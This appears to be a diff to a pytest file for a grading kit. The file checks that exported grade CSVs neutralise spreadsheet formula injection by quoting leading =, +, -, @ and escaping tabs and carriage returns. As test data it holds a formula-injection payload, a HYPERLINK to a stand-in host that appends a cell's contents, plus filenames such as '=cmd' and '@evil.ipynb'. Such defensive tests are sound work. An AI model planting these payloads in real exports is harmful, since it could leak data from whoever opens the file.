@@ -1,6 +1,7 @@
 """No cell of any CSV the kit writes runs in a spreadsheet: grade-class's grades.csv, and `nbgrader export`'s
 grades.csv and grades_per_check.csv. Student ids, file names, names and e-mail addresses that start with each
-of =, +, -, @, a tab and a carriage return are written as text (a leading ', as OWASP recommends), every other
+of =, +, -, @ are written as text (a leading ', as OWASP recommends); a tab or a carriage return, anywhere, is
+written as its escape (a cell is text only: tests/frontends/test_writers.py), which runs nothing; every other
 cell as it was."""
 
 import csv
@@ -22,6 +23,12 @@ PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"click")'
 
 
+def as_text(value: str) -> str:
+    """What a cell holding `value` (no other control than a tab or a carriage return) says."""
+    value = value.replace("\t", "\\t").replace("\r", "\\r")
+    return "'" + value if value[:1] in "=+-@" else value
+
+
 def _cells(path) -> list[list[str]]:
     with open(path, newline="", encoding="utf-8") as handle:
         return list(csv.reader(handle))
@@ -34,11 +41,11 @@ def assert_runs_nothing(path) -> None:
 
 @pytest.mark.parametrize("prefix", PREFIXES)
 def test_a_cell_that_would_run_gets_a_leading_quote_and_nothing_else_changes(prefix):
-    assert exports.cell(prefix + PAYLOAD) == "'" + prefix + PAYLOAD
-    assert exports.cell("ada " + prefix + PAYLOAD) == "ada " + prefix + PAYLOAD
+    assert exports.cell(prefix + PAYLOAD) == as_text(prefix + PAYLOAD) != prefix + PAYLOAD
+    assert exports.cell("ada " + prefix + PAYLOAD) == "ada " + as_text(prefix + PAYLOAD).lstrip("'")
     assert exports.cell(-1.5) == -1.5 and exports.cell(24) == 24 and exports.cell(None) == ""
     rows = list(csv.reader(io.StringIO(exports.csv_text(["a", prefix + "b"], [{"a": prefix + PAYLOAD}]), newline="")))
-    assert rows == [["a", "'" + prefix + "b"], ["'" + prefix + PAYLOAD, ""]]
+    assert rows == [["a", as_text(prefix + "b")], [as_text(prefix + PAYLOAD), ""]]
 
 
 @pytest.mark.slow
@@ -55,6 +62,7 @@ def test_grade_class_writes_every_student_id_and_file_name_as_text(tmp_path):
     assert_runs_nothing(path)
     table = {row[0]: row for row in _cells(path)[1:]}
     # a tab or a carriage return in a name is written as its escape (a name is plain text), the rest with a '
+    assert set(table) == {as_text(n) for n in names} | {"folder_of_=cmd"}
     assert set(table) == {exports.cell(name_text(n)) for n in names} | {"folder_of_=cmd"}
     assert {"'=SUM(1+1)", "'@SUM(1+1)", "\\tSUM(1+1)", "\\rSUM(1+1)"} <= set(table)
     assert table["folder_of_=cmd"][1] == "'@evil.ipynb"
@@ -81,7 +89,7 @@ def test_nbgrader_export_writes_every_id_name_and_address_as_text(tmp_path):
     for name in ("grades.csv", "grades_per_check.csv"):
         assert_runs_nothing(course / name)
     wide = {row["student_id"]: row for row in csv.DictReader(open(course / "grades.csv", newline=""))}
-    assert set(wide) == {f"'{prefix}student{i}" for i, prefix in enumerate(PREFIXES)}
-    assert {row["first_name"] for row in wide.values()} == {f"'{prefix}{PAYLOAD}" for prefix in PREFIXES}
+    assert set(wide) == {as_text(f"{prefix}student{i}") for i, prefix in enumerate(PREFIXES)}
+    assert {row["first_name"] for row in wide.values()} == {as_text(prefix + PAYLOAD) for prefix in PREFIXES}
     long = list(csv.DictReader(open(course / "grades_per_check.csv", newline="")))
     assert long and {row["student"] for row in long} == set(wide)
